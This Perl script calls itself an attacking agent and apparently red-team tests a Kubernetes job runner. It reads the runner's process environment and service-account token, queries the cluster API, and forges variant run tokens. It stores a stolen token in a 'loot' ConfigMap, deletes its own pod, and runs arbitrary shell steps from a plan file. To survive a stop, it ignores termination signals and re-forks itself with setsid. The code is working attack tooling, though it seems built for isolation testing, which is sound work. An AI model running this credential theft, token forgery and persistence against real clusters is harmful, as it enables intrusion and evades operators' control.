# The program of an agent that attacks: takes the steps of its plan one by one with all that
# its pod gives it, and writes down every answer. Without a plan for its issue it is a
# bystander and only stays.
#
# It needs what is in the runner's image: perl, openssl, git and a shell.
use strict;
use warnings;
use IO::Socket::INET;
use IPC::Open3 qw(open3);
use JSON::PP;

my $json = JSON::PP->new->utf8->canonical->allow_nonref;
my $account = '/var/run/secrets/kubernetes.io/serviceaccount';

sub slurp {
    my ($path) = @_;
    open my $file, '<:raw', $path or return '';
    local $/;
    my $text = <$file>;
    return defined $text ? $text : '';
}

sub trimmed { my $text = slurp(@_); $text =~ s/\s+\z//; return $text }

# The runner keeps its environment from its command, and has the same user.
my %runner = map { /^([^=]+)=(.*)\z/s ? ($1, $2) : () } split /\0/, slurp('/proc/1/environ');

my ($run_host) = $runner{CODEXK8S_RUN_URL} =~ m{^http://([^/]+)};
my %known = (
    token         => trimmed($runner{CODEXK8S_RUN_TOKEN_FILE}),
    account_token => trimmed("$account/token"),
    namespace     => trimmed("$account/namespace"),
    pod           => trimmed('/proc/sys/kernel/hostname'),
    run_host      => $run_host,
    branch        => $ENV{CODEXK8S_BRANCH},
);

# One request over a connection of its own: status and whole answer.
sub talk {
    my ($place, $head, $body, $ca) = @_;
    my $request = join("\r\n", @$head, 'Content-Length: ' . length $body, '', $body);
    my $answer = '';
    my $ok = eval {
        local $SIG{ALRM} = sub { die "no answer in time\n" };
        local $SIG{PIPE} = 'IGNORE';
        alarm 30;
        if ($place =~ s{^https://}{}) {
            my @verify = $ca ? ('-CAfile', $ca, '-verify_return_error') : ();
            open my $null, '>', '/dev/null' or die $!;
            my $process = open3(my $in, my $out, '>&' . fileno $null,
                'openssl', 's_client', '-quiet', '-connect', $place, @verify);
            print $in $request;
            $in->flush;
            local $/;
            $answer = <$out>;
            close $in;
            waitpid $process, 0;
        } else {
            my $socket = IO::Socket::INET->new(PeerAddr => $place, Timeout => 10)
                or die "no connection: $!\n";
            print $socket $request;
            $socket->flush;
            local $/;
            $answer = <$socket>;
        }
        alarm 0;
        1;
    };
    alarm 0;
    return (0, $@) unless $ok;
    $answer = '' unless defined $answer;
    my ($status) = $answer =~ m{^HTTP/1\.\d (\d+)};
    return ($status || 0, $answer);
}

sub ask {
    my ($step) = @_;
    my %at = (
        api => 'https://' . ($runner{KUBERNETES_SERVICE_HOST} || 'none') . ':'
            . ($runner{KUBERNETES_SERVICE_PORT} || 443),
        run => $run_host,
    );
    my $to = $step->{to};
    my $token = exists $step->{token} ? $step->{token}
        : $to eq 'run' ? $known{token} : $known{account_token};
    # One line of Git's protocol, or JSON.
    my $body = exists $step->{line} ? sprintf('%04x%s0000', 4 + length $step->{line}, $step->{line})
        : exists $step->{body} ? $json->encode($step->{body}) : '';
    # What is answered to HTTP/1.0 comes in one piece.
    my @head = ("$step->{method} $step->{path} HTTP/1.0", 'Host: platform', 'User-Agent: hostile-' . (defined $step->{number} ? $step->{number} : ''));
    push @head, "Authorization: Bearer $token" if length $token;
    push @head, 'Content-Type: ' . ($step->{type} || 'application/json') if length $body;
    push @head, @{ $step->{head} || [] };
    return talk($at{$to} || $to, \@head, $body, $to eq 'api' ? "$account/ca.crt" : undef);
}

sub shell {
    my ($script) = @_;
    my $process = open3(my $in, my $out, undef, 'timeout', '120', 'bash', '-c', $script);
    close $in;
    local $/;
    my $text = <$out>;
    waitpid $process, 0;
    return ($? >> 8, defined $text ? $text : '');
}

sub content { my ($answer) = @_; $answer =~ s/^.*?\r\n\r\n//s; return $answer }

# Its own pod, as the API server shows it: names to attack by.
sub look_around {
    my ($status, $answer) = ask({ name => 'look around', to => 'api', method => 'GET',
        path => "/api/v1/namespaces/$known{namespace}/pods/$known{pod}" });
    die "its own pod: $status $answer" unless $status == 200;
    my $pod = $json->decode(content($answer));
    $known{node} = $pod->{status}{hostIP};
    $known{image} = $pod->{spec}{containers}[0]{image};
    $known{job} = $pod->{metadata}{ownerReferences}[0]{name};
    ($known{secret}) = map { $_->{secret}{secretName} } grep { $_->{secret} } @{ $pod->{spec}{volumes} };
}

# Tokens that are nearly right.
sub forge_tokens {
    my ($plan) = @_;
    my ($version, $run, $attempt, $mac) = $known{token} =~ /^ck8s_(\d+)_([0-9a-f]+)_(\d+)_([0-9a-f]+)\z/
        or die 'this is no run token';
    my $other = $plan->{values}{other_run} || '0' x 32;
    $known{token_of_other_run} = "ck8s_${version}_${other}_${attempt}_$mac";
    $known{token_of_next_attempt} = "ck8s_${version}_${run}_" . ($attempt + 1) . "_$mac";
    $known{token_of_other_key} = 'ck8s_' . ($version + 1) . "_${run}_${attempt}_$mac";
    my (undef, $loot) = ask({ name => 'loot', to => 'api', method => 'GET',
        path => "/api/v1/namespaces/$known{namespace}/configmaps/loot" });
    $known{token_of_last_attempt} = $1 if $loot =~ /"token":\s*"(ck8s_\w+)"/;
}

# The first attempt leaves its token to the next one, and ends itself.
sub leave_loot {
    my $home = "/api/v1/namespaces/$known{namespace}";
    ask({ name => 'keep the token', to => 'api', method => 'POST', path => "$home/configmaps",
        body => { apiVersion => 'v1', kind => 'ConfigMap', metadata => { name => 'loot' },
            data => { token => $known{token} } } });
    ask({ name => 'end the pod', to => 'api', method => 'DELETE', path => "$home/pods/$known{pod}" });
    sleep 900;
}

# What is left when the run was told to stop: goes on for as long as it can.
sub stay {
    $SIG{$_} = 'IGNORE' for qw(TERM INT HUP);
    for (1 .. 9000) {
        ask({ name => 'after its stop', to => 'run', method => 'GET', path => '/run/v1/facts' });
        select undef, undef, undef, 0.1;
    }
}

sub take {
    my ($step) = @_;
    my ($status, $text) = exists $step->{sh} ? shell($step->{sh}) : ask($step);
    # Its own tokens are known to it and stay here.
    $text =~ s/\Q$known{token}\E/OWN-RUN-TOKEN/g;
    $text =~ s/\Q$known{account_token}\E/OWN-ACCOUNT-TOKEN/g if length $known{account_token};
    $text =~ s/[^\x09\x0a\x20-\x7e]/?/g;
    print "$step->{name}: $status\n";
    return { name => $step->{name}, status => $status + 0, text => substr($text, 0, $step->{keep} || 3000) };
}

$| = 1;
stay() if @ARGV && $ARGV[0] eq 'stay';
my $text = slurp("plan-$ENV{CODEXK8S_ISSUE_NUMBER}.json");
exec 'sleep', '900' unless length $text;
my $plan = $json->decode($text);
leave_loot() if $plan->{loot} && $ENV{CODEXK8S_RUN_ATTEMPT} == 1;
look_around();
forge_tokens($plan);
%known = (%known, %{ $plan->{values} || {} });
$text =~ s/\{\{(\w+)\}\}/defined $known{$1} ? $known{$1} : "unknown-$1"/ge;
$plan = $json->decode($text);
# Git finds the credential as the runner's own does.
$ENV{GIT_CONFIG_COUNT} = 1;
$ENV{GIT_CONFIG_KEY_0} = "http.$runner{CODEXK8S_RUN_URL}.extraHeader";
$ENV{GIT_CONFIG_VALUE_0} = "Authorization: Bearer $known{token}";
my @findings = map { take($_) } @{ $plan->{steps} };
if ($plan->{stay}) {
    ask({ name => 'tell', to => 'api', method => 'POST', path => "/api/v1/namespaces/$known{namespace}/configmaps",
        body => { apiVersion => 'v1', kind => 'ConfigMap', metadata => { name => 'findings' },
            data => { findings => $json->encode(\@findings) } } });
    # Out of its process group, beside a parent that does not listen.
    system 'setsid --fork perl attacker.pl stay';
    stay();
}
open my $file, '>', 'findings.json' or die $!;
print $file $json->encode(\@findings);
close $file;
open $file, '>', $ENV{CODEXK8S_RESULT_FILE} or die $!;
print $file $json->encode($plan->{result});
close $file;
